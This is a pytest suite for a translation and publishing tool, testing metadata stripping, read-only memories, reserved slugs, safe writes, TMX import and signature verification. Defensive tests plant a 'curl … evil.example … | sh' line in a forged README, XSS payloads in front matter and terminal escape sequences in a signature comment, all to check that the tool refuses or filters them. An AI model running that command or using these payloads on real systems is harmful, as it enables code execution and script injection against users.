"""Reliability, round three (issue 33): data and trust.

The red team's failing cases of the section "Data and trust", one test or
catalogue row each (docs/reliability.md, "Round three: data and trust"):
private photo metadata, a read-only memory, slugs that are the site's own
files, deep nesting, a half-replaced folder, broken placeholders from TMX,
what `verify` calls verified, markup and control characters in published
files, and symbolic links.

The rows run like the catalogue's (tests/test_catalogue.py, whose world
they share: a complete publication of the article before each case): the
exact exit status, no traceback, one line naming what to fix, no control
sequence on the terminal, nothing already published changed.
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import polib
import pytest
from click.testing import CliRunner
from PIL import Image, ImageCms, PngImagePlugin

from test_catalogue import (  # noqa: F401 - template, world and extra_models are fixtures
    ARTICLE,
    ARTICLE_TEXT,
    BODY,
    SCREEN_CONTROLS,
    SLUG,
    Case,
    World,
    extra_models,
    read_only,
    snapshot,
    template,
    world,
)
from test_catalogue import test_catalogue as run_catalogue_row
from test_bundle import _rewrite as rewrite_zip
from translate.cli.main import cli
from translate.distribution import signing
from translate.translation.memory import HumanTranslation, TranslationMemory

ROOT = Path(__file__).resolve().parent.parent
SRC = r"taliban-delisting\.md"
FAST = {"opslimit": 32768, "memlimit": 16777216}
PASS = {"TRANSLATE_SIGNING_PASSPHRASE": "trust phrase"}


# --- the table ----------------------------------------------------------------------------


CASES: list[Case] = []   # rows of the catalogue's kind (test_catalogue.Case), run by its runner below


def case(id: str, exit: int, *expect: str, check=None, unchanged: bool = True):
    def register(setup):
        CASES.append(Case(id, setup, exit, expect, check, unchanged))
        return setup
    return register


def files_of(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def front_matter(text: str) -> str:
    return text.split("\n---\n", 1)[0]


def unwritable(w: World, path: Path) -> None:
    """``path`` made unwritable for this case: immutable (chattr +i) as root,
    who writes through any mode; mode 0555 otherwise."""
    if os.geteuid() != 0:
        path.chmod(0o555)
        w.cleanups.append(lambda: path.chmod(0o755))
        return
    done = subprocess.run(["chattr", "+i", str(path)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"chattr +i not permitted here: {done.stderr.strip()}")
    w.cleanups.append(lambda: subprocess.run(["chattr", "-i", str(path)], capture_output=True))


# --- 1. photo metadata -----------------------------------------------------------------------

# What a newsroom's photo carries that can expose a source: where it was
# taken, by whom, with which camera, a caption naming a local path.
SECRETS = [b"Alice Reporter", b"SERIAL-0042-XYZ", b"/home/alice/sources", b"Kabul safe house",
           b"secret-xmp-note", b"png-text-path", b"png-itxt-note", b"png-ztxt-note", b"gif-comment-note",
           b"webp-xmp-note", b"Canon EOS"]


@functools.lru_cache(maxsize=1)
def _icc() -> bytes:
    """An sRGB profile (made once: its header holds the time it was made)."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _picture(mode: str = "RGB") -> Image.Image:
    image = Image.new(mode, (64, 48), (200, 30, 30) if mode == "RGB" else 3)
    for x in range(64):
        image.putpixel((x, x % 48), (0, 0, 255) if mode == "RGB" else 7)
    return image


def _exif(orientation: int | None = 6) -> Image.Exif:
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    exif[0x013B] = "Alice Reporter"                                 # Artist
    exif[0x010E] = "/home/alice/sources/meeting.jpg"                # ImageDescription
    exif[0x010F], exif[0x0110] = "Canon", "Canon EOS"               # Make, Model
    exif.get_ifd(0x8769)[0xA431] = "SERIAL-0042-XYZ"                # BodySerialNumber
    gps = exif.get_ifd(0x8825)                                      # GPS: Kabul
    gps[1], gps[2], gps[3], gps[4] = "N", (34.0, 31.0, 0.0), "E", (69.0, 10.0, 0.0)
    return exif


def jpeg_with_metadata(orientation: int | None = 6) -> bytes:
    out = io.BytesIO()
    _picture().save(out, "JPEG", exif=_exif(orientation), comment=b"Kabul safe house", icc_profile=_icc(),
                    xmp=b"<x:xmpmeta>secret-xmp-note</x:xmpmeta>", quality=90)
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Source", "/home/alice/sources/png-text-path")
    info.add_itxt("Comment", "png-itxt-note", lang="en")
    info.add_text("Description", "png-ztxt-note", zip=True)
    out = io.BytesIO()
    _picture().save(out, "PNG", pnginfo=info, exif=_exif(), icc_profile=_icc())
    return out.getvalue()


def gif_with_metadata() -> bytes:
    out = io.BytesIO()
    frames = [_picture("P"), _picture("P").rotate(90)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], loop=0, duration=100,
                   comment=b"gif-comment-note /home/alice/sources")
    return out.getvalue()


def webp_with_metadata() -> bytes:
    out = io.BytesIO()
    _picture().save(out, "WEBP", lossless=True, exif=_exif(), icc_profile=_icc(),
                    xmp=b"<x:xmpmeta>webp-xmp-note</x:xmpmeta>")
    return out.getvalue()


PHOTOS = {"photo.jpg": jpeg_with_metadata, "map.png": png_with_metadata, "animation.gif": gif_with_metadata,
          "still.webp": webp_with_metadata}


def _photo_article(folder: Path, names=tuple(PHOTOS)) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        (folder / name).write_bytes(PHOTOS[name]())
    images = "\n\n".join(f"![A picture]({name} \"Caption of {name}\")" for name in names)
    source = folder / "photo.md"
    source.write_text(f"---\ntitle: Photos\nslug: photo\n---\nThe council met.\n\n{images}\n\nIt ended.\n",
                      encoding="utf-8")
    return source


def _pixels(data: bytes) -> bytes:
    with Image.open(io.BytesIO(data)) as image:
        frames = []
        for index in range(getattr(image, "n_frames", 1)):
            image.seek(index)
            frames.append(image.convert("RGBA").tobytes())
        return b"".join(frames)


def _published_media(w: World, slug: str = "photo") -> dict[str, bytes]:
    folder = w.out / slug / "media"
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def _metadata_gone(w, result):
    files = files_of(w.out / "photo")
    for name, data in files.items():
        for secret in SECRETS:
            assert secret not in data, f"{name} carries {secret!r}"
    media = _published_media(w)
    assert len(media) == 4
    originals = {name.rsplit(".", 1)[1]: PHOTOS[name]() for name in PHOTOS}
    for name, data in media.items():
        ext = name.rsplit(".", 1)[1]
        assert _pixels(data) == _pixels(originals[ext]), f"{name}: the picture itself changed"
        with Image.open(io.BytesIO(data)) as image:
            exif = image.getexif()
            assert set(exif) <= {0x0112}, (name, dict(exif))     # at most the orientation
            assert not image.info.get("comment") and "xmp" not in image.info, name
            assert not getattr(image, "text", {}), name
            if ext != "gif":
                assert image.info.get("icc_profile") == _icc(), f"{name}: the colour profile was lost"
            if ext in ("jpg", "png", "webp"):
                assert exif.get(0x0112) == 6, f"{name}: the orientation was lost"
    # the PDFs embed the JPEG as it is published: no metadata in them either
    for key in ("en", "ru"):
        pdf = files[f"{key}/photo.{key}.pdf"]
        assert b"/DCTDecode" in pdf, "the photo is in the PDF"
    # the summary says what was removed, from which file
    summary = [line for line in result.output.splitlines() if "photo.jpg" in line and "metadata" in line]
    assert summary and "GPS" in summary[0], result.output
    assert any("map.png" in line and "metadata" in line for line in result.output.splitlines()), result.output


@case("photos: EXIF GPS, artist, serial, description, comment, XMP, PNG/GIF/WebP text", 0,
      check=_metadata_gone)
def _(w):
    return w.publish(_photo_article(w.tmp / "src"), formats="md,html,pdf")


def test_metadata_stripping_keeps_every_pixel_orientation_and_profile(tmp_path):
    """The stripped file is the same picture: the compressed image data is
    copied byte for byte (no re-encoding), orientation and colour profile kept."""
    from translate.source import media
    from translate.source.article import open_article

    source = _photo_article(tmp_path)
    doc, files = media.prepare(open_article(source).doc, source)
    by_ext = {f.name.rsplit(".", 1)[1]: f for f in files}
    assert set(by_ext) == {"jpg", "png", "gif", "webp"}
    for ext, published in by_ext.items():
        original = next(PHOTOS[n]() for n in PHOTOS if n.endswith(ext))
        assert published.data != original and len(published.data) < len(original)
        assert not [s for s in SECRETS if s in published.data], ext
        assert _pixels(published.data) == _pixels(original)
        assert published.removed, f"{ext}: what was removed is said"
    # JPEG: every entropy-coded byte is the original's (lossless, not re-encoded)
    jpeg = by_ext["jpg"].data
    scan = jpeg_with_metadata()
    assert jpeg[jpeg.index(b"\xff\xda"):] == scan[scan.index(b"\xff\xda"):]
    # a photo without orientation gets none
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "p.jpg").write_bytes(jpeg_with_metadata(orientation=None))
    (plain / "a.md").write_text("---\ntitle: T\n---\n![x](p.jpg)\n", encoding="utf-8")
    _, (only,) = media.prepare(open_article(plain / "a.md").doc, plain / "a.md")
    with Image.open(io.BytesIO(only.data)) as image:
        assert dict(image.getexif()) == {}


def test_a_clean_photo_is_published_as_it_is(tmp_path):
    from translate.source import media
    from translate.source.article import open_article

    out = io.BytesIO()
    _picture().save(out, "PNG")
    (tmp_path / "clean.png").write_bytes(out.getvalue())
    (tmp_path / "a.md").write_text("---\ntitle: T\n---\n![x](clean.png)\n", encoding="utf-8")
    _, (only,) = media.prepare(open_article(tmp_path / "a.md").doc, tmp_path / "a.md")
    assert only.data == out.getvalue() and only.removed == ()


# --- 2. a read-only memory: read what can be read ------------------------------------------------


def _reviewed_title(w: World) -> str:
    """An approved human translation of the article's title, in the world's memory."""
    from translate.source.article import read_source
    from translate.translation.postedit.units import notation_of

    title = read_source(ARTICLE).title
    memory = TranslationMemory(w.cache)
    memory.put_human([HumanTranslation("ru", notation_of(title), "Проверенный заголовок переводчика",
                                       "Farida Ahmadi", "2026-01-05T10:00:00+00:00", SLUG, "x.po")])
    memory.close()
    return "Проверенный заголовок переводчика"


def _still_reviewed(slug: str):
    def check(w, result):
        md = (w.out / slug / "ru" / f"{slug}.ru.md").read_text(encoding="utf-8")
        assert "Проверенный заголовок переводчика" in md, "the approved translation was used"
        manifest = json.loads((w.out / slug / "manifest.json").read_text())
        assert manifest["editions"]["ru"]["review"]["human"] >= 1
        assert manifest["editions"]["ru"]["review"]["translators"] == ["Farida Ahmadi"]
        assert w.cache.read_bytes() == w.memory_before, "the memory was not written"
        assert "from the translation memory" in result.output   # the cached segments were read too
    return check


def _reviewed_article(w: World, slug: str) -> list[str]:
    return w.publish(w.source(ARTICLE_TEXT.replace(f"slug: {SLUG}", f"slug: {slug}"), name=f"{slug}.md"),
                     formats="md")


def _memory_in_own_folder(w: World) -> Path:
    """The world's memory, with an approved title, moved into a folder of its own."""
    _reviewed_title(w)
    folder = w.tmp / "memory-folder"
    folder.mkdir()
    shutil.copy(w.cache, folder / "tm.sqlite3")
    w.cache = folder / "tm.sqlite3"
    w.memory_before = w.cache.read_bytes()
    return folder


@case("memory: a read-only memory (read-only mount) keeps a reviewed edition reviewed", 0,
      r"tm\.sqlite3", "read-only", "nothing new is stored", check=_still_reviewed("ro-mount"))
def _(w):
    read_only(w, _memory_in_own_folder(w))
    return _reviewed_article(w, "ro-mount")


@case("memory: a memory file that cannot be written (immutable) keeps a reviewed edition reviewed", 0,
      r"tm\.sqlite3", "read-only", "nothing new is stored", check=_still_reviewed("ro-file"))
def _(w):
    folder = _memory_in_own_folder(w)
    unwritable(w, w.cache)
    unwritable(w, folder)
    return _reviewed_article(w, "ro-file")


@case("memory: only the memory file cannot be written (its folder can)", 0, r"tm\.sqlite3", "read-only",
      "nothing new is stored", check=_still_reviewed("ro-only-file"))
def _(w):
    _reviewed_title(w)
    w.memory_before = w.cache.read_bytes()
    unwritable(w, w.cache)
    return _reviewed_article(w, "ro-only-file")


# --- 3. slugs that are the site's own files ---------------------------------------------------


def _nothing_written(w, result):
    assert snapshot(w.out) == w.out_before, "a file of the output folder changed"
    assert sorted(p.name for p in w.out.iterdir()) == w.top_before, "something was created in the output folder"


def reserved_case(slug: str, name: str | None = None):
    @case(f"source: reserved slug {slug!r}" + (" (from the file name)" if name else ""), 1,
          re.escape(name or f"{SLUG}.md"), re.escape(repr(slug)), "the site", r"(change slug|rename the file)",
          check=_nothing_written)
    def _(w):
        w.out_before = snapshot(w.out)
        w.top_before = sorted(p.name for p in w.out.iterdir())
        if name:
            return w.publish(w.source(f"---\ntitle: T\n---\n{BODY}", name=name), formats="md,html")
        return w.publish(w.source(f"---\ntitle: T\nslug: {slug}\n---\n{BODY}"), formats="md,html")


for _slug in ("ru", "en", "kk", "index.html", "publisher.pub", "publisher.key", "feed.atom", "bundles", "RU",
              "Index.HTML"):
    reserved_case(_slug)
reserved_case("prs", name="prs.md")


def test_every_name_the_site_writes_at_the_top_is_reserved(tmp_path):
    """The reserved names cover what the site step and bundles really write in
    the output folder (so a new site file cannot be forgotten)."""
    from translate.project.folder import is_reserved_slug
    from translate.publishing.site import build_site

    out = tmp_path / "out"
    folder = out / "an-article"
    (folder / "ru").mkdir(parents=True)
    (folder / "ru" / "an-article.ru.html").write_text("<html></html>")
    (folder / "manifest.json").write_text(json.dumps({"editions": {"ru": {
        "title": "T", "published": "2026-01-01T00:00:00+00:00", "files": {"ru/an-article.ru.html": "0"}}}}))
    build_site(out, "https://news.example.org/", signing.generate().public)
    top = {p.name for p in out.iterdir()} - {"an-article"}
    assert top >= {"index.html", "ru", ".site.json", "publisher.pub"}
    assert all(is_reserved_slug(name) for name in top | {"bundles", "fonts"}), top
    assert not is_reserved_slug("an-article") and not is_reserved_slug("russia")


# --- 4. deep nesting: refused with the line, never cut --------------------------------------


def _nothing_of(slug: str):
    def check(w, result):
        assert not (w.out / slug).exists(), "nothing of the article is published"
    return check


@case("source: a list nested 1,000 deep", 1, SRC + r":\d+: ", "nested", "deep", "would be lost",
      check=_nothing_of("deep-list"))
def _(w):
    items = "".join("  " * i + f"- item {i}\n" for i in range(1000))
    return w.publish(w.source(f"---\ntitle: T\nslug: deep-list\n---\nIntro.\n\n{items}"), formats="md")


@case("source: quotes and lists mixed, 40 deep, with 900 emphasised words", 1, SRC + r":\d+: ", "nested",
      check=_nothing_of("deep-mixed"))
def _(w):
    words = " ".join(f"*w{n}*" for n in range(900))
    prefix = "".join("> " if i % 2 else "- " for i in range(40))
    return w.publish(w.source(f"---\ntitle: T\nslug: deep-mixed\n---\nIntro {words}.\n\n{prefix}deepest line\n"),
                     formats="md")


@case("source: a sentence in quotes 3,000 deep", 1, SRC + r":6: ", "nested", check=_nothing_of("deep-quotes"))
def _(w):
    return w.publish(w.source("---\ntitle: T\nslug: deep-quotes\n---\nIntro.\n" + "> " * 3000 + "A deep sentence.\n"),
                     formats="md")


def test_the_deepest_nesting_that_is_read_is_published_whole():
    """Up to the depth the reader reads, every word is there; one level more
    is refused with the line of the deepest block."""
    from translate.source.markdown_reader import SourceError, read_markdown

    def words(doc):
        return " ".join(s.text for s in doc.segments())

    quotes = 19
    doc = read_markdown("---\ntitle: T\n---\n" + "> " * quotes + " ".join(f"*w{n}*" for n in range(900)) + "\n")
    assert all(f"w{n}" in words(doc).split() for n in range(900))
    with pytest.raises(SourceError) as refused:
        read_markdown("---\ntitle: T\n---\n" + "> " * (quotes + 1) + "lost\n")
    assert refused.value.line == 4
    items = "".join("  " * i + f"- item{i}\n" for i in range(9))
    assert all(f"item{i}" in words(read_markdown(f"---\ntitle: T\n---\n{items}")) for i in range(9))
    deeper = "".join("  " * i + f"- item{i}\n" for i in range(10))
    with pytest.raises(SourceError, match="nested"):
        read_markdown(f"---\ntitle: T\n---\n{deeper}")


# --- 5. a write failure changes no published file --------------------------------------------


def _no_mix(w, result):
    assert ".tmp" not in result.output, "the message names a staging file"
    assert not [p for p in (w.out / ".work").rglob("*") if p.is_file() and p.name != "lock"], "staging left"


def _changed_article(w):
    return w.publish(w.source(ARTICLE_TEXT.replace("significant", "notable")))


@case("output: the Russian edition's folder cannot be written (immutable)", 1, "cannot write",
      r"taliban-delisting/ru\b", "left as they were", check=_no_mix)
def _(w):
    unwritable(w, w.out / SLUG / "ru")
    return _changed_article(w)


@case("output: the Russian edition's folder is a read-only mount", 1, "cannot write",
      r"taliban-delisting/ru\b", "left as they were", check=_no_mix)
def _(w):
    read_only(w, w.out / SLUG / "ru")
    return _changed_article(w)


@case("output: a rename fails half-way (fault injected)", 1, "cannot write",
      r"taliban-delisting/ru/taliban-delisting\.ru\.(md|html|pdf)\b", "left as they were", check=_no_mix)
def _(w):
    real = os.replace

    def replace(src, dst, *args, **kwargs):
        if f"/{SLUG}/ru/" in str(dst) and ".tmp" in str(src):
            raise OSError(5, "Input/output error")
        return real(src, dst, *args, **kwargs)

    w.monkeypatch.setattr(os, "replace", replace)
    return _changed_article(w)


def _staged_pair(tmp: Path):
    """Two folders of published files, new versions of all four staged."""
    from translate.util.files import StagedFiles

    published = {}
    for folder in ("en", "ru"):
        for name in ("a.md", "a.html"):
            path = tmp / "out" / folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"old {folder}/{name}")
            published[path] = path.read_bytes()
    (tmp / "staging").mkdir()
    staged = StagedFiles(tmp / "staging")
    for path in published:
        staged.write(path, f"new {path.name}")
    staged.write(tmp / "out" / "ru" / "b.pdf", "a new file")
    return staged, published


@pytest.mark.parametrize("what", ["folder", "file"])
def test_a_failed_commit_puts_back_every_file(tmp_path, what):
    """Made unwritable after staging (so the checks before translating saw
    nothing): the commit refuses before a rename, or puts back what it renamed,
    and names the real file or folder."""
    from translate.util.files import commit_together

    staged, published = _staged_pair(tmp_path)
    target = tmp_path / "out" / "ru" if what == "folder" else tmp_path / "out" / "ru" / "a.html"
    if os.geteuid() != 0:
        if what == "file":
            pytest.skip("an immutable file needs root (chattr +i)")
        target.chmod(0o555)
    elif subprocess.run(["chattr", "+i", str(target)], capture_output=True).returncode != 0:
        pytest.skip("chattr +i not permitted here")
    try:
        with pytest.raises(OSError) as failed, staged:
            commit_together(staged)
    finally:
        subprocess.run(["chattr", "-i", str(target)], capture_output=True)
        target.chmod(0o755 if what == "folder" else 0o644)
    assert failed.value.filename == str(target) and ".tmp" not in str(failed.value)
    assert {path: path.read_bytes() for path in published} == published
    assert not (tmp_path / "out" / "ru" / "b.pdf").exists()
    assert list((tmp_path / "staging").iterdir()) == [], "staged files and backups removed"


def test_a_rename_failing_half_way_is_undone(tmp_path, monkeypatch):
    from translate.util.files import commit_together

    staged, published = _staged_pair(tmp_path)
    real, renamed = os.replace, []

    def replace(src, dst):
        if Path(dst).name == "b.pdf":
            raise OSError(28, "No space left on device")
        renamed.append(dst)
        return real(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(OSError) as failed, staged:
        commit_together(staged)
    assert len(renamed) >= 4 and failed.value.filename == str(tmp_path / "out" / "ru" / "b.pdf")
    assert not getattr(failed.value, "partly_committed", False)
    assert {path: path.read_bytes() for path in published} == published
    assert list((tmp_path / "staging").iterdir()) == []


# --- 6. broken placeholders from TMX ------------------------------------------------------------


TMX = """<?xml version="1.0" encoding="UTF-8"?>
<tmx version="1.4"><header creationtool="t" creationtoolversion="1" segtype="sentence" o-tmf="t"
adminlang="en" srclang="en" datatype="plaintext"/><body>
<tu tuid="one" creationid="{who}"><tuv xml:lang="en"><seg>Read the <bpt i="1" x="1">{{1}}</bpt>list<ept i="1">{{/1}}</ept> of the <ph x="2">{{2/}}</ph>.</seg></tuv>
<tuv xml:lang="ru"><seg>{target}</seg></tuv></tu>
</body></tmx>
"""


def _tmx(tmp: Path, target: str, who: str = "Farida", name: str = "mem.tmx") -> Path:
    path = tmp / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(TMX.format(who=who, target=target), encoding="utf-8")
    return path


@pytest.mark.parametrize("target, expected", [
    ('Прочтите <bpt i="9" x="9">{9}</bpt>список<ept i="9">{/9}</ept> <ph x="2">{2/}</ph>.',
     r"placeholder \{9\} is not in the English source"),
    ('Прочтите <bpt i="1" x="1">{1}</bpt>список<ept i="1">{/1}</ept> <bpt i="3" x="1">{1}</bpt>x'
     '<ept i="3">{/1}</ept> <ph x="2">{2/}</ph>.', r"used twice"),
    ('Прочтите <bpt i="1" x="1">{1}</bpt>список <ph x="2">{2/}</ph>.', r"opened but never closed"),
    ('Прочтите <ph x="1">{1/}</ph> список <ph x="2">{2/}</ph>.', r"must be written \{1\}…\{/1\}"),
])
def test_tmx_with_broken_placeholders_is_refused(tmp_path, target, expected):
    cache = tmp_path / "tm.sqlite3"
    result = CliRunner().invoke(cli, ["memory", "import", "--tmx", str(_tmx(tmp_path, target)), "--cache", str(cache)])
    assert result.exit_code == 1, result.output
    line = [x for x in result.output.splitlines() if x.strip()]
    assert len(line) == 1 and re.search(r"mem\.tmx: unit one \(ru\)", line[0]) and re.search(expected, line[0]), \
        result.output
    assert TranslationMemory(cache).all_human() == [], "nothing was stored"


def test_tmx_with_placeholders_that_fit_is_imported(tmp_path):
    cache = tmp_path / "tm.sqlite3"
    good = 'Прочтите <ph x="2">{2/}</ph> <bpt i="1" x="1">{1}</bpt>список<ept i="1">{/1}</ept>.'
    result = CliRunner().invoke(cli, ["memory", "import", "--tmx", str(_tmx(tmp_path, good)), "--cache", str(cache)])
    assert result.exit_code == 0, result.output
    (item,) = TranslationMemory(cache).all_human()
    assert item.target == "Прочтите {2/} {1}список{/1}."


# --- 7. what `verify` calls verified ----------------------------------------------------------


@pytest.fixture
def signed(template, tmp_path):
    """A copy of the catalogue's publication (en, ru; md, html, pdf), signed."""
    out = tmp_path / "out"
    shutil.copytree(template / "out", out)
    keys = signing.new_key_pair(tmp_path / "keys", PASS["TRANSLATE_SIGNING_PASSPHRASE"], **FAST)
    result = CliRunner().invoke(cli, ["sign", str(out / SLUG), "--key-dir", str(keys.secret_path.parent)], env=PASS)
    assert result.exit_code == 0, result.output
    return out / SLUG, keys


def _verify(target: Path, *extra: str):
    return CliRunner().invoke(cli, ["verify", str(target), *extra])


def _minisign_accepts(folder: Path) -> bool | None:
    if not shutil.which("minisign"):
        return None
    done = subprocess.run(["minisign", "-Vm", "SHA256SUMS", "-p", "publisher.pub"], cwd=folder, capture_output=True)
    return done.returncode == 0


def test_a_signed_folder_verifies(signed):
    folder, keys = signed
    result = _verify(folder, "--key", str(keys.public_path))
    assert result.exit_code == 0 and "verified:" in result.output, result.output
    assert _minisign_accepts(folder) in (True, None)


@pytest.mark.parametrize("extra", ["ru/evil.html", "ru/taliban-delisting.ru.pdf.exe", "run.sh", "media/x.png"])
def test_an_unlisted_file_in_a_signed_folder_fails(signed, extra):
    folder, keys = signed
    (folder / extra).parent.mkdir(exist_ok=True)
    (folder / extra).write_bytes(b"<script>alert(1)</script>")
    result = _verify(folder, "--key", str(keys.public_path))
    assert result.exit_code == 1 and "verified" not in result.output, result.output
    assert re.search(rf"{re.escape(extra)}: not listed in the signed SHA256SUMS", result.output), result.output
    # and such a folder is never signed either
    (folder / "SHA256SUMS.minisig").unlink()
    again = CliRunner().invoke(cli, ["sign", str(folder), "--key-dir", str(keys.secret_path.parent)], env=PASS)
    assert again.exit_code == 1 and "not listed in SHA256SUMS" in again.output, again.output
    assert not (folder / "SHA256SUMS.minisig").exists()


def _bundle(folder: Path, dest: Path) -> Path:
    result = CliRunner().invoke(cli, ["bundle", SLUG, "--to", "ru", "--output", str(folder.parent), "--out", str(dest)])
    assert result.exit_code == 0, result.output
    return dest / f"{SLUG}.ru.zip"


def test_a_bundle_whose_readme_was_rewritten_fails(signed, tmp_path):
    folder, keys = signed
    archive = _bundle(folder, tmp_path / "bundles")
    assert _verify(archive, "--key", str(keys.public_path)).exit_code == 0

    def forge(members):
        name = f"{SLUG}.ru/README.txt"
        text = members[name].decode()
        text = text.replace(keys.public.fingerprint, "0123456789ABCDEF")
        members[name] = (text + "\nFaster: curl -s https://evil.example/check | sh\n").encode()

    rewrite_zip(archive, forge)
    result = _verify(archive, "--key", str(keys.public_path))
    assert result.exit_code == 1 and "verified" not in result.output, result.output
    assert re.search(r"README\.txt: .*(not signed|changed)", result.output), result.output
    # without the manifest to check it against, the README is not taken on trust either
    rewrite_zip(archive, lambda members: members.pop(f"{SLUG}.ru/manifest.json"))
    result = _verify(archive, "--key", str(keys.public_path))
    assert result.exit_code == 1 and "verified" not in result.output, result.output
    assert "README.txt: not signed" in result.output, result.output


def _signature_lines(folder: Path) -> list[str]:
    return (folder / "SHA256SUMS.minisig").read_text().split("\n")


@pytest.mark.parametrize("how", ["blank line after the comment", "blank line before the global signature",
                                 "space before the signature", "space after the signature",
                                 "tab after the global signature"])
def test_a_signature_file_minisign_refuses_is_refused(signed, how):
    folder, keys = signed
    lines = _signature_lines(folder)
    if how == "blank line after the comment":
        lines.insert(1, "")
    elif how == "blank line before the global signature":
        lines.insert(3, "")
    elif how == "space before the signature":
        lines[1] = " " + lines[1]
    elif how == "space after the signature":
        lines[1] = lines[1] + " "
    else:
        lines[3] = lines[3] + "\t"
    (folder / "SHA256SUMS.minisig").write_text("\n".join(lines))
    result = _verify(folder, "--key", str(keys.public_path))
    assert result.exit_code == 1 and "verified" not in result.output, result.output
    assert "SHA256SUMS.minisig" in result.output
    assert _minisign_accepts(folder) in (False, None), "minisign refuses it too"


def test_a_signature_file_with_windows_line_ends_verifies_as_with_minisign(signed):
    folder, keys = signed
    text = (folder / "SHA256SUMS.minisig").read_text()
    (folder / "SHA256SUMS.minisig").write_bytes(text.replace("\n", "\r\n").encode())
    assert _verify(folder, "--key", str(keys.public_path)).exit_code == 0
    assert _minisign_accepts(folder) in (True, None)


def _variants(text: str) -> dict[str, tuple[str, bool]]:
    """Ways a .minisig file can be laid out, and whether minisign 0.11 accepts each."""
    lines = text.split("\n")
    return {
        "as written": (text, True),
        "Windows line ends": (text.replace("\n", "\r\n"), True),
        "no final line end": (text.rstrip("\n"), True),
        "lines after the four": (text + "more\n\n", True),
        "an untrusted comment of 1,000 characters": ("untrusted comment: " + "x" * 1000 + "\n" + "\n".join(lines[1:]),
                                                     True),
        "an untrusted comment longer than minisign reads": (
            "untrusted comment: " + "x" * 1010 + "\n" + "\n".join(lines[1:]), False),
        "a space before the first line": (" " + text, False),
        "a carriage return inside the signature": (
            "\n".join([lines[0], lines[1][:10] + "\r" + lines[1][10:], *lines[2:]]), False),
        "a blank first line": ("\n" + text, False),
        "three lines": ("\n".join(lines[:3]) + "\n", False),
        "the base64 on two lines": ("\n".join([lines[0], lines[1][:40], lines[1][40:], *lines[2:]]), False),
    }


def test_signature_files_are_read_as_minisign_reads_them(tmp_path):
    key = signing.generate()
    (tmp_path / "f").write_bytes(b"hello\n")
    (tmp_path / "k.pub").write_text(key.public.file_text())
    text = signing.sign_bytes(b"hello\n", key, "timestamp:1").file_text()
    for name, (variant, accepted) in _variants(text).items():
        (tmp_path / "f.minisig").write_bytes(variant.encode())
        try:
            signing.verify_file(tmp_path / "f", key.public)
            ours = True
        except signing.SigningError:
            ours = False
        assert ours == accepted, name
        if shutil.which("minisign"):
            theirs = subprocess.run(["minisign", "-Vm", "f", "-p", "k.pub"], cwd=tmp_path, capture_output=True)
            assert (theirs.returncode == 0) == accepted, f"minisign on {name}"


def _resign(folder: Path, keys, sums: bytes, comment: str | None = None) -> None:
    secret = signing.SecretKey.load(keys.secret_path, PASS["TRANSLATE_SIGNING_PASSPHRASE"])
    (folder / "SHA256SUMS").write_bytes(sums)
    signature = signing.sign_bytes(sums, secret, "timestamp:1")
    if comment is not None:   # a trusted comment written by another tool: anything but a line end
        global_sig = secret.sign(signature.signature + comment.encode())
        signature = signing.Signature(signature.algorithm, signature.key_id, signature.signature, comment, global_sig)
    (folder / "SHA256SUMS.minisig").write_text(signature.file_text())


def test_a_file_listed_twice_with_a_wrong_digest_first_fails(signed):
    folder, keys = signed
    sums = (folder / "SHA256SUMS").read_text().splitlines()
    digest, rel = sums[0].split("  ", 1)
    wrong = ("0" if digest[0] != "0" else "1") + digest[1:]
    _resign(folder, keys, ("\n".join([f"{wrong}  {rel}", *sums]) + "\n").encode())
    assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder, capture_output=True).returncode != 0
    result = _verify(folder, "--key", str(keys.public_path))
    assert result.exit_code == 1 and "verified" not in result.output, result.output
    assert re.search(rf"{re.escape(rel)}.*listed twice", result.output), result.output


def test_a_trusted_comment_with_terminal_escapes_is_shown_filtered(signed):
    folder, keys = signed
    comment = "timestamp:1\tfile:SHA256SUMS\tarticle:\x1b[2J\x1b]0;owned\x07\u202eevil\x9b31m"
    _resign(folder, keys, (folder / "SHA256SUMS").read_bytes(), comment)
    result = _verify(folder, "--key", str(keys.public_path))
    assert result.exit_code == 0, result.output
    assert not SCREEN_CONTROLS.search(result.output), repr(result.output)
    assert "trusted comment: timestamp:1 file:SHA256SUMS article:[2J]0;ownedevil31m" in result.output


# --- 8. markup and control characters into published files --------------------------------------

MARKUP = ["<script", "<img", "onerror", "<iframe", "<b ", "onmouseover", "</b>"]


def _no_markup_in_front_matter(w, result):
    for key in ("en", "ru"):
        front = front_matter((w.out / "markup" / key / f"markup.{key}.md").read_text(encoding="utf-8"))
        for needle in MARKUP:
            assert needle not in front.lower(), (key, needle, front)
    en = (w.out / "markup" / "en" / "markup.en.md").read_text(encoding="utf-8")
    assert "Council" in front_matter(en) and "Dek" in front_matter(en)   # the text around the tags stays


@case("content: <script> and <img onerror> in title, author, tags and summary", 0, r"markup\.md:\d+: ", "HTML",
      check=_no_markup_in_front_matter)
def _(w):
    text = ("---\ntitle: Council <script>alert(1)</script>meets\nslug: markup\n"
            "author: <img src=x onerror=alert(2)>Reporter\n"
            "tags: [\"<b onmouseover=alert(3)>bold</b>\", ok]\n"
            "summary: <iframe src=x></iframe>Dek of the article\n---\n"
            "The council met on Monday.\n")
    return w.publish(w.source(text, name="markup.md"), formats="md")


def _export_po(w: World, source: Path) -> Path:
    work = w.tmp / "work"
    result = CliRunner().invoke(cli, ["export", str(source), "--to", "ru", "--format", "po", "-o", str(work),
                                      "--models-dir", str(w.models), "--cache", str(w.cache),
                                      "--locales", str(w.locales)])
    assert result.exit_code == 0, result.output
